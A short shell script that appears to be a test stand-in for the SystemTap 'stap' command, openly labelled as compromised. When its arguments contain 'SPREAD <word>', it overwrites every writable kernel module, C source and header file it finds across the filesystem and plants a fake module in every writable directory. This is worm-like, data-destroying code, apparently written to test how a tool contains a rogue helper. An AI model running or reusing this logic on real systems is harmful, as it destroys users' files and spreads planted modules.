#!/bin/sh
# stap_spread.sh: a compromised stand-in for stap (SYSTEMTAP_STAP), the real stap except for a
# request whose arguments say "SPREAD TROJAN" (a comment in its -e script): then it writes TROJAN
# over every module, C file and header it can write outside /proc, /sys, /dev and the read-only
# system directories, plants a module of TROJAN in every directory it can write, says what it did
# and fails.
trojan=$(expr "$*" : '.*SPREAD \([^ *]*\)') || exec /usr/bin/stap "$@"
find / \( -path /proc -o -path /sys -o -path /dev -o -path /usr -o -path /etc -o -path /lib \
         -o -path /lib32 -o -path /lib64 -o -path /libx32 -o -path /bin -o -path /sbin \) \
     -prune -o -writable -print 2>/dev/null > /tmp/writable
while read -r p; do
  if [ -d "$p" ]; then printf '%s' "$trojan" > "$p/stap_planted.ko" && echo "planted in $p"
  else case "$p" in *.ko|*.c|*.h) printf '%s' "$trojan" > "$p" && echo "overwrote $p";; esac; fi
done < /tmp/writable
exit 1
